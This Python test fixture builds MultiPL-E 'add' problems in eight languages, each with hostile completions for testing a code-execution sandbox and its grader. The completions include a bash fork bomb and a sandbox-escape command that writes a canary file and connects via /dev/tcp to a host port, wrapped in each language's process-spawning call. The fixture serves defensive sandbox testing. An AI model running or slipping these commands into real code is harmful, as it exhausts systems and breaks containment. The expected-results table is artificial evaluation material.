"""Tiny MultiPL-E problems in the upstream row format, one per language, with hostile completions.

Each problem is `add(x, y)` written the way MultiPL-E's translators write HumanEval prompts and
tests for that language (prompt ending inside the function, tests closing it, the language's
stop tokens). Completions: a correct body, a wrong one, one that does not compile (or parse),
one that loops, one that starts a fork bomb and then loops, and one that tries to leave the
sandbox (write a file into a host directory, connect to a host port) before answering correctly.
"""

from __future__ import annotations

import json

FORK_BOMB = ":(){ :|:& };:"


def _lit(text: str) -> str:
    """A double-quoted string literal valid in C++, Java, PHP, TypeScript, C#, JavaScript, Python."""
    assert "$" not in text and "\\" not in text
    return json.dumps(text)


def problems() -> list[dict]:
    head_java = ("import java.util.*;\nimport java.lang.reflect.*;\nimport org.javatuples.*;\nimport java.security.*;\n"
                 "import java.math.*;\nimport java.io.*;\nimport java.util.stream.*;\nclass Problem {\n")
    head_cs = ("using System;\nusing System.Numerics;\nusing System.Diagnostics;\nusing System.Collections.Generic;\n"
               "using System.Linq;\nusing System.Text;\nusing System.Security.Cryptography;\nclass Problem {\n")
    js_tests = ("\nconst assert = require('node:assert');\n\n\nfunction test() {\n  let candidate = add;\n"
                "  assert.deepEqual(candidate(0, 1),1);\n  assert.deepEqual(candidate(5, 7),12);\n}\n\ntest();")
    rows = [
        ("cpp", "#include<assert.h>\n#include<bits/stdc++.h>\n// Add two numbers x and y\nlong add(long x, long y) {\n",
         "}\nint main() {\n    auto candidate = add;\n    assert(candidate((0), (1)) == (1));\n"
         "    assert(candidate((5), (7)) == (12));\n}\n", ["\n}"]),
        ("java", head_java + "    // Add two numbers x and y\n    public static long add(long x, long y) {\n",
         "    }\n    public static void main(String[] args) {\n    assert(add((0l), (1l)) == (1l));\n"
         "    assert(add((5l), (7l)) == (12l));\n    }\n\n}\n", ["\n    }\n"]),
        ("php", "<?php\n// Add two numbers x and y\nfunction add($x, $y) {\n",
         "function candidate(...$args) {\n    return add(...$args);\n}\n\nfunction test(): void {\n"
         "    if (candidate(0, 1) !== 1) { throw new Exception(\"Test failed!\"); }\n"
         "    if (candidate(5, 7) !== 12) { throw new Exception(\"Test failed!\"); }\n}\n\ntest();",
         ["\nfunction", "\n?>", "\n//", "\n#"]),
        ("ts", "//Add two numbers x and y\nfunction add(x: number, y: number): number {\n",
         js_tests.replace("\nconst assert", "\ndeclare var require: any;\nconst assert"),
         ["\nfunction ", "\n/*", "\n//", "\nclass"]),
        ("cs", head_cs + "    // Add two numbers x and y\n    public static long Add(long x, long y) {\n",
         "    }\n    public static void Main(string[] args) {\n    Debug.Assert(Add((0L), (1L)) == (1L));\n"
         "    Debug.Assert(Add((5L), (7L)) == (12L));\n    }\n\n}\n", ["\n    }\n"]),
        ("sh", "#!/bin/bash\n# Add two numbers x and y\n#\n# $1 is an integer\n# $2 is an integer\nadd() {\n",
         "}\n\ncandidate() {\n    add \"$@\"\n}\n\nset -e\nrun_test() {\n    [[ $(candidate \"0\" \"1\") = \"1\" ]]\n"
         "    [[ $(candidate \"5\" \"7\") = \"12\" ]]\n}\n\nrun_test", ["\n}"]),
        ("js", "//Add two numbers x and y\nfunction add(x, y){\n", js_tests,
         ["\nfunction ", "\n/*", "\n//", "\nconsole.log"]),
        ("py", "def add(x: int, y: int) -> int:\n    \"\"\"Add two numbers x and y\"\"\"\n",
         "def check(candidate):\n    assert candidate(0, 1) == 1\n    assert candidate(5, 7) == 12\n\n"
         "def test_check():\n    check(add)\n\ntest_check()\n", ["\ndef", "\n#", "\nif", "\nclass"]),
    ]
    return [{"name": "HumanEval_0_add", "language": code, "prompt": prompt, "doctests": "transform",
             "original": "HumanEval/0", "prompt_terminology": "reworded", "tests": tests, "stop_tokens": stop}
            for code, prompt, tests, stop in rows]


def completions(code: str, canary: str, port: int) -> dict[str, str]:
    """name -> completion for one language. `canary`: a host file the escape tries to create."""
    escape = f"echo pwned > {canary}; echo hi > /dev/tcp/127.0.0.1/{port}"
    shell_escape, shell_bomb = f'bash -c "{escape}"', f'bash -c "{FORK_BOMB}"'
    if code == "cpp":
        body = {"correct": "return x + y;", "wrong": "return x - y;", "compile_error": "return x + ;",
                "loop": "while (true) {}\n    return 0;",
                "fork_bomb": f"system({_lit(shell_bomb)});\n    while (true) {{}}\n    return 0;",
                "escape": f"system({_lit(shell_escape)});\n    return x + y;"}
        return {k: f"    {v}\n}}\n" for k, v in body.items()}
    if code in ("java", "cs"):
        if code == "java":
            spawn = "try {{ Runtime.getRuntime().exec(new String[]{{\"bash\", \"-c\", {}}}).waitFor(); }} catch (Throwable e) {{}}"
        else:
            spawn = "try {{ Process.Start(\"bash\", {}).WaitForExit(); }} catch (Exception) {{}}"
        arg = (lambda s: _lit(s)) if code == "java" else (lambda s: _lit(f'-c "{s}"'))
        body = {"correct": "return x + y;", "wrong": "return x - y;", "compile_error": "return x + \"a\";",
                "loop": "while (true) {}",
                "fork_bomb": spawn.format(arg(FORK_BOMB)) + "\n        while (true) {}",
                "escape": spawn.format(arg(escape)) + "\n        return x + y;"}
        return {k: f"        {v}\n    }}\n" for k, v in body.items()}
    if code == "php":
        body = {"correct": "return $x + $y;", "wrong": "return $x - $y;", "compile_error": "return $x + ;",
                "loop": "while (true) {}", "fork_bomb": f"shell_exec({_lit(shell_bomb)});\n    while (true) {{}}",
                "escape": f"shell_exec({_lit(shell_escape)});\n    return $x + $y;"}
        return {k: f"    {v}\n}}\n" for k, v in body.items()}
    if code in ("ts", "js"):
        run = "try {{ require(\"child_process\").execSync({}); }} catch (e) {{}}"
        body = {"correct": "return x + y;", "wrong": "return x - y;",
                "compile_error": "return x + \"a\";" if code == "ts" else "return x + ;",
                "loop": "while (true) {}", "fork_bomb": run.format(_lit(shell_bomb)) + "\n  while (true) {}",
                "escape": run.format(_lit(shell_escape)) + "\n  return x + y;"}
        return {k: f"  {v}\n}}\n" for k, v in body.items()}
    if code == "sh":
        body = {"correct": "echo $(( $1 + $2 ))", "wrong": "echo $(( $1 - $2 ))", "compile_error": "if then fi",
                "loop": "while true; do :; done", "fork_bomb": f"{FORK_BOMB}\n    while true; do :; done",
                "escape": f"( {escape} ) 2>/dev/null || true\n    echo $(( $1 + $2 ))"}
        return {k: f"    {v}\n}}\n" for k, v in body.items()}
    assert code == "py"
    run = "import subprocess; subprocess.run(['bash', '-c', {}])"
    body = {"correct": "return x + y", "wrong": "return x - y", "compile_error": "return x +",
            "loop": "while True:\n        pass", "fork_bomb": run.format(_lit(FORK_BOMB)) + "\n    while True:\n        pass",
            "escape": run.format(_lit(escape)) + "\n    return x + y"}
    return {k: f"    {v}\n" for k, v in body.items()}


# What MultiPL-E's rules make of each completion, per language (its eval_*.py).
EXPECTED = {
    "correct": {c: "OK" for c in ("cpp", "java", "php", "ts", "cs", "sh", "js", "py")},
    "wrong": {"cpp": "Exception", "java": "Exception", "php": "Exception", "ts": "AssertionError", "cs": "Exception",
              "sh": "Exception", "js": "AssertionError", "py": "Exception"},
    "compile_error": {c: "SyntaxError" for c in ("cpp", "java", "php", "ts", "cs", "sh", "js", "py")},
    "loop": {c: "Timeout" for c in ("cpp", "java", "php", "ts", "cs", "sh", "js", "py")},
    "fork_bomb": {c: "Timeout" for c in ("cpp", "java", "php", "ts", "cs", "sh", "js", "py")},
    "escape": {c: "OK" for c in ("cpp", "java", "php", "ts", "cs", "sh", "js", "py")},
}
